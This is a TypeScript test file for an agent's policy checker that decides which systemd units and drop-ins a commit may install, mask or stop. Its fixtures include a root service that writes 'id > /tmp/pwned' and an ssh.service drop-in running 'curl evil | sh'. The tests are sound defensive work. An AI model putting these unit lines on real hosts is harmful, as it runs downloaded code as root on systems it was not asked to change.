import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { PolicySettings, UnitsPolicy } from '../../../agent/settings/model.js';
import { assertProblem, POLICY, problems } from './fixtures.js';

const withUnits = (units: Partial<UnitsPolicy>): PolicySettings => ({ ...POLICY, units: { install: 'own', dropInsFor: [], maskOrStop: [], ...units } });
const ROOT_SERVICE = '[Service]\nUser=root\nExecStart=/bin/sh -c "id > /tmp/pwned"\n';

describe('units under policy', () => {
  it('lets a commit install its own units by default', async () => {
    assert.deepEqual(await problems({ 'units/telegraf.service': ROOT_SERVICE }), []);
  });
  it('refuses a root service the install list does not name', async () => {
    const files = { 'units/evil.service': ROOT_SERVICE };
    const policy = withUnits({ install: ['telegraf.service'] });
    assertProblem(await problems(files, policy), { file: 'units/evil.service', line: 1, key: '', message: /policy\.units\.install/ });
    assert.deepEqual(await problems(files, withUnits({ install: ['evil.service'] })), []);
  });
  it('refuses an ExecStartPre drop-in on ssh.service whatever the policy says', async () => {
    const files = { 'units/ssh.service.d/10-pre.conf': '[Service]\nExecStartPre=/bin/sh -c "curl evil | sh"\n' };
    assertProblem(await problems(files), { file: 'units/ssh.service.d', line: 1, key: '', message: /never touched/ });
    assertProblem(await problems(files, withUnits({ dropInsFor: ['ssh.service'] })), { file: 'units/ssh.service.d', line: 1, key: '', message: /never touched/ });
  });
  it('refuses drop-ins for a host unit not in policy.units.dropInsFor', async () => {
    const files = { 'units/cron.service.d/10.conf': '[Service]\nNice=5\n' };
    assertProblem(await problems(files), { file: 'units/cron.service.d', line: 1, key: '', message: /policy\.units\.dropInsFor/ });
    assert.deepEqual(await problems(files, withUnits({ dropInsFor: ['cron.service'] })), []);
  });
  it('refuses masking ssh.service, even when listed', async () => {
    const files = { 'moor.yaml': 'units:\n  - { name: ssh.service, state: stopped, mask: true }\n' };
    const list = await problems(files, withUnits({ maskOrStop: ['ssh.service'] }));
    assertProblem(list, { file: 'moor.yaml', line: 2, key: 'units[0].mask', message: /masking ssh\.service is refused/ });
    assertProblem(list, { file: 'moor.yaml', line: 2, key: 'units[0].state', message: /stopping ssh\.service is refused/ });
  });
  it('refuses stopping or disabling a host unit unless policy.units.maskOrStop names it', async () => {
    const files = { 'moor.yaml': 'units:\n  - name: bluetooth.service\n    enabled: false\n' };
    assertProblem(await problems(files), { file: 'moor.yaml', line: 3, key: 'units[0].enabled', message: /policy\.units\.maskOrStop/ });
    assert.deepEqual(await problems(files, withUnits({ maskOrStop: ['bluetooth.service'] })), []);
  });
  it('never lets a commit ship a unit file for sshd, dbus, moor or systemd-*', async () => {
    for (const name of ['sshd.service', 'dbus.service', 'moor.service', 'moor-hub.service', 'systemd-journald.service', 'ssh@.service']) {
      const list = await problems({ [`units/${name}`]: ROOT_SERVICE }, withUnits({ install: 'any' }));
      assertProblem(list, { file: `units/${name}`, line: 1, key: '', message: /never touched/ });
    }
  });
  it('lets a commit ship its own unit whose name merely starts with moor-', async () => {
    assert.deepEqual(await problems({ 'units/moor-pkg-hello.service': ROOT_SERVICE }), []);
  });
});
